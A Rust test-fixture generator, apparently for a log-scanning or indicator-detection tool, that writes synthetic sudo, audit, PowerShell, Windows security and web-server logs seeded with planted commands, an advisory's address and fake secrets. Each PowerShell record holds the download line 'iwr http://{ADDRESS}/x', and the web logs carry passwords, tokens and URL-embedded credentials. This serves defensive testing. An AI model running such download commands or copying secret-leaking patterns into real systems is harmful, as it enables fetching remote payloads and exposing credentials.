//! Logs of each kind: every planted text in a record of its own, on a machine of its own, with the advisory's address.

use super::ADDRESS;
use super::planted::{COMMANDS, NAMES, secret, texts};
use crate::program::Folder;
use serde_json::json;

/// Writes the logs; how many records hold the address.
pub fn write(folder: &Folder) -> usize {
    let texts = texts();
    let of = |each: fn(usize, &str) -> String| -> String {
        texts.iter().enumerate().map(|(n, text)| each(n, text) + "\n").collect()
    };
    let events = format!("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<Events>\n{}</Events>\n", of(event));
    let web = format!(
        "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip cs-method cs-uri-stem \
         cs-uri-query c-ip cs(Cookie) sc-status\n{}",
        of(web)
    );
    let named: String = NAMES.iter().enumerate().map(|(n, name)| named(n, name) + "\n").collect();
    for (name, text) in [
        ("auth.log", of(sudo)),
        ("audit.log", of(audit)),
        ("app.jsonl", of(line) + &named),
        ("script.jsonl", of(script)),
        ("events.xml", events),
        ("web-1/access.log", of(access)),
        ("web-2/u_ex.log", web),
    ] {
        folder.file(&format!("logs/{name}"), text);
    }
    7 * texts.len() + NAMES.len()
}

fn time(n: usize) -> String {
    format!("03:{:02}:{:02}", n / 60, n % 60)
}

fn sudo(n: usize, text: &str) -> String {
    let time = time(n);
    format!(
        "2026-06-12T{time}Z sys-{n} sudo[7]: mo : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/x {ADDRESS} {text}"
    )
}

fn audit(n: usize, text: &str) -> String {
    // A statement is one argument; a command line is an argument a word.
    let is_one = text.contains(['\'', '|']) || n >= COMMANDS.len();
    let parts: Vec<&str> = if is_one { vec![text] } else { text.split(' ').collect() };
    let words: String = parts.iter().zip(1..).map(|(word, n)| format!(" a{n}=\"{word}\"")).collect();
    format!("node=aud-{n} type=EXECVE msg=audit(1781233455.{n:03}:{n}): argc=9 a0=\"{ADDRESS}\"{words}")
}

fn line(n: usize, text: &str) -> String {
    let time = format!("2026-06-12T{}Z", time(n));
    json!({"@timestamp": time, "host": {"name": format!("js-{n}")}, "message": format!("{ADDRESS} {text}")})
        .to_string()
}

/// A record with a field of this name, and arguments that announce one by it.
fn named(n: usize, name: &str) -> String {
    let flag = format!("--{}", name.replace(' ', "-"));
    json!({"@timestamp": "2026-06-13T00:00:00Z", "host": {"name": format!("name-{n}")}, "source": {"ip": ADDRESS},
        (name): secret(n), "process": {"args": ["tool", flag, secret(n)]}})
    .to_string()
}

fn script(n: usize, text: &str) -> String {
    json!({"EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "Computer": format!("ps-{n}"),
        "TimeCreated": format!("2026-06-12T{}Z", time(n)), "ScriptBlockText": format!("iwr http://{ADDRESS}/x\n{text}\n")})
    .to_string()
}

fn event(n: usize, text: &str) -> String {
    let text = text.replace('&', "&amp;").replace('<', "&lt;").replace('\'', "&apos;");
    let time = time(n);
    format!(
        "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System><Provider \
         Name=\"Microsoft-Windows-Security-Auditing\"/><EventID>4688</EventID><TimeCreated \
         SystemTime=\"2026-06-12T{time}.0000000Z\"/><EventRecordID>{n}</EventRecordID><Channel>Security</Channel>\
         <Computer>win-{n}</Computer></System><EventData><Data Name=\"NewProcessName\">C:\\x.exe</Data>\
         <Data Name=\"CommandLine\">x {ADDRESS} {text}</Data></EventData></Event>"
    )
}

fn access(n: usize, _: &str) -> String {
    let (time, secret) = (time(n), secret(n));
    format!(
        "{ADDRESS} - - [12/Jun/2026:{time} +0000] \"GET /a?password={secret}&q=1 HTTP/1.1\" 200 5 \
         \"https://bob:{secret}@h.example/\" \"-\""
    )
}

/// The cookie has no name on its line.
fn web(n: usize, _: &str) -> String {
    let (time, secret) = (time(n), secret(n));
    format!("2026-06-12 {time} 10.0.0.1 GET /a token={secret} {ADDRESS} {secret};+x=y 200")
}
